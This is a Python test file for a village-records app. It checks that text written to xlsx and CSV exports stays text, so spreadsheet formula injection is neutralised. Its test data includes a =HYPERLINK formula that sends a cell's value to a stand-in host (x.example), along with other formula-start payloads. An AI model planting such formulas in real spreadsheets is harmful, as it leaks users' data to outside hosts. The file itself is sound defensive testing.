"""No formula from data: every text cell the program writes to xlsx or CSV stays text (issue 17, item 2).

A note or address starting with ``=`` (an attacker's ``=HYPERLINK(...)``) is stored as
typed, and shows as text in the report, the export's workbook, the CSV export and the
bad-row files of an import; a name that is a formula is refused when it is typed.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from app_fixtures import make_village
from village_tui.cli import main
from village_tui.domain.errors import ValidationErrors
from village_tui.domain.models import Household, LedgerItem, Visit
from village_tui.domain.normalize import clean_text
from village_tui.exchange.export import export_village
from village_tui.imports.csv_export import export_csvs
from village_tui.imports.template import write_templates
from village_tui.service import VillageService

from import_fixtures import sheets, write_workbook

LINK = '=HYPERLINK("http://x.example/?leak="&A1,"点这里")'
TODAY = date(2026, 11, 27)
ATTACKS = [LINK, "+1+1", "-2+3", "@SUM(A1:A2)", "＝1+1"]


def _village(path):
    """A village whose free text holds every kind of formula start."""
    service = make_village(VillageService.open(path, today=TODAY))
    service.sign_in(service.cadres()[0].id)
    for number, text in enumerate(ATTACKS, start=1):
        service.save_visit(Visit(day=date(2026, 10, number), cadre_id=1, household_id=1, learned=text,
                                 requests=text))
    service.save_ledger_item(LedgerItem(day=date(2026, 10, 9), source="来访", category="行路", content=LINK,
                                        household_id=1, handler_id=1, reporter="-王"))
    return service


def _text_cells(path):
    """Every cell of a workbook that holds a value, with its type."""
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_text_only(cells):
    assert cells
    for cell in cells:
        assert cell.data_type in ("s", "n", "d", "b"), (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell.value


def test_a_household_head_named_like_a_formula_is_refused_in_chinese():
    service = make_village()
    for name in ("=1+1", "＝1+1", "@王", " +王"):
        with pytest.raises(ValidationErrors) as refused:
            service.save_household(Household(code="0009", head=name, group="1组"))
        assert "户主不能以" in refused.value.errors[0].message and "公式" in refused.value.errors[0].message


@pytest.mark.parametrize("typed", ["＝1+1", "\t=1+1", " =1+1", "\u3000=1+1"])
def test_clean_text_never_makes_a_formula_out_of_harmless_text(typed):
    for multiline in (False, True):
        assert not clean_text(typed, multiline=multiline).startswith("=")


def test_report_and_export_workbooks_hold_the_attacks_as_text(tmp_path):
    service = _village(tmp_path / "data")
    usb = tmp_path / "usb"
    usb.mkdir()
    try:
        export = export_village(service, usb, masked=False)
    finally:
        service.close()
    assert main(["report", "--month", "2026-10", "--xlsx", str(tmp_path / "月报.xlsx"),
                 "--data", str(tmp_path / "data")]) == 0
    for book in (tmp_path / "月报.xlsx", next(export.folder.glob("*.xlsx"))):
        cells = _text_cells(book)
        _assert_text_only(cells)
        values = {c.value for c in cells if c.data_type == "s"}
        assert "'" + LINK in values and "'+1+1" in values and "'@SUM(A1:A2)" in values and "'-王" in values


def test_csv_export_quotes_the_attacks_and_imports_them_back_as_typed(tmp_path):
    service = _village(tmp_path / "data")
    try:
        written = export_csvs(service, tmp_path / "csv")
    finally:
        service.close()
    visits = next(p for p in written if p.name == "走访.csv")
    rows = list(csv.reader(io.StringIO(visits.read_bytes().decode("utf-8-sig"))))
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "＝")) for cell in row), row
    assert ["'" + LINK, "'" + LINK] == rows[1][-2:]
    assert main(["import", str(tmp_path / "csv"), "--data", str(tmp_path / "again"), "--village", "东风村",
                 "--township", "青山镇", "--county", "田县"]) == 0
    reopened = VillageService.open(tmp_path / "again", today=TODAY)
    try:
        learned = sorted(v.learned for v in reopened.visits(2026, 10).rows)
    finally:
        reopened.close()
    assert LINK in learned and "+1+1" in learned


def test_bad_row_files_and_templates_hold_text_only(tmp_path):
    data = sheets()
    data["走访"].append(["2026-13-40", "张建国", "0001", "入户", "-2+3", "@SUM(A1)"])  # a bad day
    book = write_workbook(tmp_path / "台账.xlsx", data)
    assert main(["import", str(book), "--data", str(tmp_path / "data"), "--skip-bad"]) == 1
    raw = (tmp_path / "走访-有问题的行.csv").read_bytes().decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(raw)))[1]
    assert row[4:6] == ["'-2+3", "'@SUM(A1)"]
    written = write_templates(tmp_path / "模板")
    _assert_text_only(_text_cells(written[0]))
